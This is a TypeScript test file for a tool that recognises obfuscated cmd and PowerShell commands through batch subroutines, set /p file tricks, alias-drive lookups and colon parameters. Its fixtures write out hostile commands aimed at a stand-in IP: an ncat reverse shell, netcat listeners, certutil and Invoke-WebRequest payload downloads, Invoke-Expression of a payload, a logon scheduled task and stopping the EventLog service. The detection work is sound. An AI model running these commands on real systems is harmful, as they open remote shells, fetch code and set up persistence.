/**
 * cmd and PowerShell forms that hide a command, round 3: `call :label` subroutines run with their arguments,
 * batch parameters and unknown variables as the command, `set /p v=<file` after `(echo X)>file`, the alias and
 * function drives (`&(Get-Item alias:iex)`), and parameters given with a colon (`-OutFile:$path`).
 */
import { describe, expect, it } from 'vitest';
import { analyse } from './analyse';
import type { Document } from './document';

const cmd = (text: string) => analyse(text, 'cmd', 'windows');
const ps = (text: string) => analyse(text, 'powershell', 'windows');
const wordsOf = (d: Document, name: string) => d.commands.filter((c) => c.name === name).map((c) => c.words.map((w) => w.value));
const computed = (d: Document) => d.notes.filter((n) => n.kind === 'computed_invocation').length;
const withinOriginal = (d: Document) =>
  d.commands.every((c) => c.span.start >= 0 && c.span.end <= d.original.length && c.words.every((w) => w.span.end <= d.original.length));

describe('call :label in a batch script', () => {
  it('runs the label body with %* bound to the call arguments', () => {
    const d = cmd('@echo off\ncall :zq ncat.exe 198.51.100.7 4444 -e cmd.exe\ngoto :eof\n:zq\n%*\nexit /b\n');
    expect(wordsOf(d, 'ncat')).toEqual([['ncat.exe', '198.51.100.7', '4444', '-e', 'cmd.exe']]);
    expect(withinOriginal(d)).toBe(true);
  });

  it('binds %1 … %9 and %~1 (quotes removed), and stops at goto / exit', () => {
    const d = cmd('call :run reg "HKCU\\Software\\x y"\ngoto :eof\n:run\n%1 add %2 /f\n%~1 query %~2 /s\nexit /b\nwhoami');
    expect(wordsOf(d, 'reg')).toContainEqual(['reg', 'add', 'HKCU\\Software\\x y', '/f']);
    // `%~2` drops the quotes, so cmd splits the value at its blank.
    expect(wordsOf(d, 'reg')).toContainEqual(['reg', 'query', 'HKCU\\Software\\x', 'y', '/s']);
    // `whoami` after `exit /b` is not part of the subroutine: it runs once, at the top level.
    expect(wordsOf(d, 'whoami')).toHaveLength(1);
  });

  it('inlines a label a bounded number of times, and not from inside an inlined body', () => {
    const calls = Array.from({ length: 50 }, () => 'call :a whoami').join('\n');
    const d = cmd(`${calls}\ngoto :eof\n:a\n%1\ncall :a hostname\nexit /b`);
    expect(wordsOf(d, 'whoami').length).toBeLessThanOrEqual(4);
    expect(wordsOf(d, 'hostname').length).toBe(0);
  });

  it('ignores calls to labels that do not exist and to :eof', () => {
    const d = cmd('call :missing whoami\ncall :eof');
    expect(wordsOf(d, 'whoami')).toEqual([]);
  });
});

describe('a command word that only holds a value not known here', () => {
  it('is a computed invocation for a batch parameter', () => {
    for (const text of [':x\n%1 -lvnp 4444', ':x\n%*', ':x\n%~1 /c whoami']) expect(computed(cmd(text))).toBe(1);
  });

  it('is a computed invocation for a variable read by set /p from an unknown file', () => {
    const d = cmd('set /p zq=<C:\\Users\\Public\\c.txt\n%zq% -lvnp 4444');
    expect(computed(d)).toBe(1);
    expect(d.commands.at(-1)?.words[0]?.obfuscated).toBe(true);
  });

  it('is no computed invocation for the script itself, an argument, or an environment variable', () => {
    for (const text of [
      '%0 restart',
      'echo %1',
      '%PYTHON% build.py',
      '"%JAVA_HOME%\\bin\\java" -jar a.jar',
      'set /p name=Name: \necho %name%',
    ])
      expect(computed(cmd(text))).toBe(0);
  });
});

describe('set /p v=<file after (echo X)>file', () => {
  it('binds v to the echoed line', () => {
    const d = cmd('(echo schtasks)>"%TEMP%\\zq.txt"\nset /p zq=<"%TEMP%\\zq.txt"\n%zq% /create /tn x /tr C:\\p.exe /sc onlogon');
    expect(wordsOf(d, 'schtasks')).toEqual([['schtasks', '/create', '/tn', 'x', '/tr', 'C:\\p.exe', '/sc', 'onlogon']]);
    expect(computed(d)).toBe(0);
  });

  it('binds it after echo X>file too', () => {
    expect(wordsOf(cmd('echo certutil>c.txt\nset /p c=<c.txt\n%c% -urlcache -f http://x/a a.exe'), 'certutil')).toHaveLength(1);
  });

  it('leaves v unknown when the file holds more than the echo, or was appended to', () => {
    for (const text of [
      '(whoami & echo nc)>f.txt\nset /p v=<f.txt\n%v% -e cmd',
      '(echo nc)>f.txt\nwhoami>f.txt\nset /p v=<f.txt\n%v% -e cmd',
      '(echo nc)>>f.txt\nset /p v=<f.txt\n%v% -e cmd',
    ]) {
      const d = cmd(text);
      expect(wordsOf(d, 'nc')).toEqual([]);
      expect(computed(d)).toBe(1);
    }
  });
});

describe('PowerShell alias and function drive items as the command', () => {
  it('resolves &(Get-Item alias:x), &(gi Alias:\\x), &(Get-ChildItem alias:x) and .Definition', () => {
    for (const [text, name] of [
      ['&(Get-Item alias:iex) $c', 'invoke-expression'],
      ['&(gi Alias:\\iwr) http://198.51.100.7/a.ps1 -o a.ps1', 'invoke-webrequest'],
      ['&(Get-ChildItem alias:irm) http://198.51.100.7/a', 'invoke-restmethod'],
      ['&((Get-Item alias:irm).Definition) http://198.51.100.7/a', 'invoke-restmethod'],
      ['&((Get-Alias iex).Definition) $c', 'invoke-expression'],
      ['&(Get-Item function:Invoke-Expression) $c', 'invoke-expression'],
    ] as const) {
      const d = ps(text);
      expect(d.commands.some((c) => c.name === name && c.words[0]?.obfuscated === true)).toBe(true);
      expect(computed(d)).toBeGreaterThan(0);
    }
  });

  it('follows the command through a variable: $c = (Get-Alias iex).Definition; & $c', () => {
    for (const text of ['$c = (Get-Alias iex).Definition; & $c $payload', '$c = (gi alias:iex); . $c $payload']) {
      const d = ps(text);
      expect(d.commands.some((c) => c.name === 'invoke-expression' && c.words[0]?.obfuscated === true)).toBe(true);
    }
    // `(Get-Command git).Source` is how scripts find a program: no disguise.
    expect(computed(ps('$git = (Get-Command git).Source; & $git status'))).toBe(0);
  });

  it('leaves other drives alone', () => {
    const d = ps('&(Get-Item C:\\Tools\\x.exe) /s');
    expect(d.commands.some((c) => c.name === 'invoke-expression')).toBe(false);
  });
});

describe('PowerShell parameters given with a colon', () => {
  it('reads -Name:VALUE as -Name VALUE, within the original word', () => {
    const text = 'iwr http://198.51.100.7/a.exe -OutFile:$env:TEMP\\a.exe';
    const d = ps(text);
    const words = d.commands.find((c) => c.name === 'invoke-webrequest')?.words ?? [];
    expect(words.map((w) => w.value)).toEqual(['iwr', 'http://198.51.100.7/a.exe', '-OutFile', '$env:temp\\a.exe']);
    const parameter = words[2];
    expect(text.slice(parameter?.span.start, parameter?.span.end)).toBe('-OutFile');
    expect(withinOriginal(d)).toBe(true);
  });

  it('reads -Switch:$true as the switch and leaves -Switch:$false as written', () => {
    expect(wordsOf(ps('Stop-Service -Name:EventLog -Force:$true'), 'stop-service')).toEqual([
      ['Stop-Service', '-Name', 'EventLog', '-Force'],
    ]);
    expect(wordsOf(ps('Remove-Item x -Confirm:$false'), 'remove-item')[0]?.at(-1)).toBe('-Confirm:$false');
  });

  it('keeps words that are not parameters', () => {
    expect(wordsOf(ps('Write-Output -5 a::b'), 'write-output')).toEqual([['Write-Output', '-5', 'a::b']]);
    expect(wordsOf(ps('Get-Item -Path: C:\\x'), 'get-item')[0]?.[1]).toBe('-Path:');
  });
});
